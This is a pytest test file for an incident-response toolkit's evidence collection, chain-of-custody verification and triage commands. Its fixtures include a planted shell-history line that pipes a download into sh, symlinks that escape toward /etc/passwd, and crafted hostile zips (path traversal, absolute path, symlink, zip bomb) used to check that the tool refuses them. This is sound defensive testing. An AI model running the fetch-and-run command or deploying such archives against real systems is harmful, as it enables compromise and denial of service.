"""irkit collect and irkit verify: real collections, their custody, and zips not trusted."""

from __future__ import annotations

import hashlib
import json
import shutil
import stat
import zipfile
from pathlib import Path

import pytest

from irkit.store.case import Case

from .conftest import run_irkit

ODD_NAMES = ("auth spaced ü.log", "auth\nnewline.log", "auth" + "x" * 240)


def _collect(*args: str) -> tuple[int, dict[str, object], str]:
    result = run_irkit("collect", *args, "--json")
    data = json.loads(result.stdout) if result.stdout.strip() else {}
    return result.returncode, data, result.stderr


def _verify(path: Path) -> tuple[int, dict[str, object]]:
    result = run_irkit("verify", str(path), "--json")
    return result.returncode, json.loads(result.stdout)


@pytest.mark.slow
def test_live_collection_of_this_machine(tmp_path: Path) -> None:
    out = tmp_path / "live"
    code, data, stderr = _collect("--out", str(out), "--case-number", "IR-1", "--examiner", "me")
    assert code in (0, 3), stderr
    assert data["profile"] == "triage-linux" and data["live"] is True
    assert isinstance(data["files"], int) and data["files"] > 20
    assert isinstance(data["bytes"], int) and data["bytes"] > 0
    assert isinstance(data["seconds"], float) and data["seconds"] > 0
    assert isinstance(data["skipped"], dict)
    for item in data["skipped_files"]:  # type: ignore[attr-defined]
        assert item["reason"] and item["detail"] and item["source_path"]
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["format"] == "irkit-collection"
    assert manifest["collection_id"] == data["collection_id"]
    assert manifest["case"]["case_number"] == "IR-1"
    assert manifest["host"]["hostname"] and manifest["host"]["kernel"]["release"]
    assert manifest["started_utc"] <= manifest["finished_utc"]
    assert manifest["invocation"]["profile"] == "triage-linux"
    assert "is_admin" in manifest["privileges"]
    entries = {f["source_path"]: f for f in manifest["files"]}
    passwd = entries["/etc/passwd"]
    assert passwd["stored_path"] == "files/etc/passwd"
    assert passwd["sha256"] == hashlib.sha256(Path("/etc/passwd").read_bytes()).hexdigest()
    assert passwd["md5"] and passwd["sha1"] and passwd["mtime"] and passwd["mode"]
    assert any(f["method"] == "listing" for f in manifest["files"])  # /tmp and friends
    # Never itself: the output folder is not listed or copied.
    assert not any(str(out) in f["source_path"] for f in manifest["files"])
    if shutil.which("osqueryi") is None:
        assert manifest["osquery"]["available"] is False
        assert "not found" in manifest["osquery"]["reason"]
    digest = hashlib.sha256((out / "manifest.json").read_bytes()).hexdigest()
    assert (out / "manifest.json.sha256").read_text().split()[0] == digest
    code, report = _verify(out)
    assert code == 0, report["problems"]
    assert report["verified"] is True and report["files_checked"] >= data["files"]


def _windows_root(tmp_path: Path, corpus: Path) -> tuple[Path, list[Path]]:
    root = tmp_path / "image"
    logs = root / "windows" / "SYSTEM32" / "WinEvt" / "logs"
    logs.mkdir(parents=True)
    samples = sorted((corpus / "omerbenamram-evtx" / "samples").glob("*.evtx"))
    assert samples
    for sample in samples:
        shutil.copy2(sample, logs / sample.name)
    history = root / "Users" / "alice" / "AppData" / "Roaming" / "Microsoft" / "Windows"
    history = history / "PowerShell" / "PSReadLine"
    history.mkdir(parents=True)
    (history / "ConsoleHost_history.txt").write_text("whoami /all\n")
    # Links that point out of the image are read inside it, and lead nowhere there.
    (logs / "escape-absolute.evtx").symlink_to("/etc/passwd")
    (logs / "escape-relative.evtx").symlink_to("../../../../../../../../../../etc/passwd")
    return root, samples


def _events(case: Path) -> set[tuple[object, ...]]:
    with Case(case, read_only=True) as store:
        rows = store.db.execute(
            "SELECT uid, ts, source, event_id, message, fields, evidence_sha256, record FROM events"
        ).fetchall()
    return set(rows)


@pytest.mark.corpus
@pytest.mark.slow
def test_windows_root_yields_every_evtx_and_triage_matches(tmp_path: Path, corpus: Path) -> None:
    root, samples = _windows_root(tmp_path, corpus)
    out = tmp_path / "collected"
    code, data, stderr = _collect("--root", str(root), "--out", str(out), "--zip")
    assert code == 0, stderr
    assert data["profile"] == "triage-windows" and data["live"] is False
    assert data["osquery"]["reason"].startswith("not run")  # type: ignore[index]
    skipped = {(s["source_path"], s["reason"]) for s in data["skipped_files"]}  # type: ignore[attr-defined]
    assert any(p.endswith("escape-absolute.evtx") and r == "broken-link" for p, r in skipped)
    assert any(p.endswith("escape-relative.evtx") and r == "broken-link" for p, r in skipped)
    archive = Path(str(data["zip"]))
    assert archive.parent == out and archive.exists()
    assert (out / f"{archive.name}.sha256").read_text().split()[0] == data["zip_sha256"]
    assert str(data["zip_sha256"]) in (out / "collect.log").read_text()
    with zipfile.ZipFile(archive) as zf:
        manifest = json.loads(zf.read("manifest.json"))
        names = set(zf.namelist())
    stored = {f["stored_path"]: f for f in manifest["files"]}
    for sample in samples:
        name = f"files/windows/SYSTEM32/WinEvt/logs/{sample.name}"
        assert name in names and name in stored
        assert stored[name]["sha256"] == hashlib.sha256(sample.read_bytes()).hexdigest()
        assert stored[name]["source_path"].startswith("C:\\windows\\SYSTEM32\\WinEvt\\logs\\")
    assert any(p.endswith("ConsoleHost_history.txt") for p in stored)
    passwd = hashlib.sha256(Path("/etc/passwd").read_bytes()).hexdigest()
    assert all(f["sha256"] != passwd for f in manifest["files"])
    assert run_irkit("verify", str(out)).returncode == 0

    triaged = tmp_path / "triage"
    result = run_irkit("triage", str(archive), "-o", str(triaged), "--json")
    assert result.returncode in (0, 3), result.stderr
    direct = tmp_path / "direct"
    logs = root / "windows" / "SYSTEM32" / "WinEvt" / "logs"
    result = run_irkit("parse", *map(str, (logs / s.name for s in samples)), "--case", str(direct))
    assert result.returncode in (0, 3), result.stderr
    from_collection = {e for e in _events(triaged) if e[2] == "evtx"}
    assert from_collection and from_collection == _events(direct)
    with Case(triaged, read_only=True) as store:
        rows = store.db.execute(
            "SELECT collection_id, manifest_sha256, manifest_verified FROM collections"
        ).fetchall()
    digest = hashlib.sha256(json.dumps(manifest, indent=1).encode() + b"\n").hexdigest()
    assert rows == [(manifest["collection_id"], digest, True)]


def _linux_root(tmp_path: Path) -> Path:
    root = tmp_path / "linux"
    (root / "etc").mkdir(parents=True)
    (root / "etc" / "passwd").write_text(
        "root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/sh\n"
    )
    (root / "home" / "bob").mkdir(parents=True)
    (root / "home" / "bob" / ".bash_history").write_text("curl http://x | sh\n")
    logs = root / "var" / "log"
    logs.mkdir(parents=True)
    (logs / "auth.log").write_text("Jan  1 00:00:00 host sshd[1]: Accepted password for bob\n")
    for name in ODD_NAMES:
        (logs / name).write_text(f"line of {name!r}\n")
    return root


def test_odd_names_and_verify_catches_each_change(tmp_path: Path) -> None:
    root = _linux_root(tmp_path)
    out = tmp_path / "c"
    code, _, stderr = _collect("--root", str(root), "--out", str(out))
    assert code == 0, stderr
    manifest = json.loads((out / "manifest.json").read_text())
    sources = {f["source_path"] for f in manifest["files"]}
    assert {f"/var/log/{n}" for n in ODD_NAMES} | {"/home/bob/.bash_history"} <= sources
    for name in ODD_NAMES:
        assert (out / "files" / "var" / "log" / name).read_text() == f"line of {name!r}\n"
    assert _verify(out)[0] == 0

    def broken(change: str) -> tuple[int, list[dict[str, str]]]:
        copy = tmp_path / change
        shutil.copytree(out, copy)
        target = copy / "files" / "var" / "log" / "auth.log"
        if change == "byte":
            raw = bytearray(target.read_bytes())
            raw[0] ^= 1
            target.write_bytes(bytes(raw))
        elif change == "deleted":
            target.unlink()
        elif change == "added":
            (copy / "files" / "var" / "log" / "planted.log").write_text("not collected\n")
        elif change == "manifest":
            text = (copy / "manifest.json").read_text()
            (copy / "manifest.json").write_text(text.replace('"examiner": ""', '"examiner": "x"'))
        code, report = _verify(copy)
        return code, report["problems"]  # type: ignore[return-value]

    code, problems = broken("byte")
    assert code == 5 and [p["kind"] for p in problems] == ["altered"]
    assert problems[0]["path"] == "files/var/log/auth.log" and "md5 is" in problems[0]["message"]
    code, problems = broken("deleted")
    assert code == 5 and [p["kind"] for p in problems] == ["missing"]
    assert "absent" in problems[0]["message"]
    code, problems = broken("added")
    assert code == 5 and [(p["kind"], p["path"]) for p in problems] == [
        ("unexpected", "files/var/log/planted.log")
    ]
    code, problems = broken("manifest")
    assert code == 5 and [p["kind"] for p in problems] == ["manifest-altered"]
    assert "edited" in problems[0]["message"]
    text = run_irkit("verify", str(tmp_path / "byte")).stderr
    assert "altered: files/var/log/auth.log" in text and "FAILED" in text


def _bad_zip(path: Path, kind: str) -> None:
    manifest = json.dumps({"format": "irkit-collection", "files": [], "commands": []})
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("manifest.json", manifest)
        if kind == "traversal":
            zf.writestr("../escaped.txt", "outside")
        elif kind == "absolute":
            zf.writestr(str(path.parent / "absolute.txt"), "outside")
        elif kind == "symlink":
            info = zipfile.ZipInfo("files/link")
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            zf.writestr(info, "/etc/passwd")
        elif kind == "bomb":
            info = zipfile.ZipInfo("files/zeros.bin")
            info.compress_type = zipfile.ZIP_DEFLATED
            with zf.open(info, "w") as out:
                block = bytes(1 << 20)
                for _ in range(40):
                    out.write(block)


@pytest.mark.parametrize(
    ("kind", "words"),
    [
        ("traversal", "climbs out"),
        ("absolute", "absolute path"),
        ("symlink", "symbolic link"),
        ("bomb", "zip bomb"),
    ],
)
def test_hostile_zip_is_refused(tmp_path: Path, kind: str, words: str) -> None:
    evidence = tmp_path / "evidence"
    evidence.mkdir()
    archive = evidence / f"{kind}.zip"
    _bad_zip(archive, kind)
    zipfile.ZipFile(archive).close()
    before = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*"))
    out = tmp_path / "out"
    result = run_irkit("triage", str(archive), "-o", str(out))
    assert result.returncode == 1, result.stderr
    assert "refusing" in result.stderr and words in result.stderr
    after = sorted(
        p.relative_to(tmp_path) for p in tmp_path.rglob("*") if out not in (p, *p.parents)
    )
    assert after == before
    assert not list(out.rglob("escaped.txt")) and not list(out.rglob("zeros.bin"))
    verified = run_irkit("verify", str(archive))
    assert verified.returncode == 1 and words in verified.stderr


def test_collect_refuses_a_used_folder_and_unknown_names(tmp_path: Path) -> None:
    used = tmp_path / "used"
    used.mkdir()
    (used / "x").write_text("x")
    result = run_irkit("collect", "--out", str(used), "--root", str(_linux_root(tmp_path)))
    assert result.returncode == 2 and "not an empty folder" in result.stderr
    result = run_irkit("collect", "--out", str(tmp_path / "n"), "--artifact", "NoSuchThing")
    assert result.returncode == 2 and "unknown artifact" in result.stderr


def test_artifacts_package_definitions_are_read() -> None:
    from irkit.collect.definitions import load_definitions, resolve_sources

    definitions = load_definitions()
    sources, _ = resolve_sources(definitions, ["WindowsEventLogs"], "Windows")
    paths = {p for s in sources for p in s.paths}
    assert "%%environ_systemroot%%\\System32\\winevt\\Logs\\*.evtx" in paths
    assert set(definitions.profiles()) >= {"triage-linux", "triage-windows", "triage-macos"}
    linux, _ = resolve_sources(definitions, ["triage-linux"], "Linux")
    wanted = {"/etc/ld.so.preload", "/etc/rc.local", "/var/log/wtmp*", "/var/log/btmp*"}
    assert wanted <= {p for s in linux for p in s.paths}
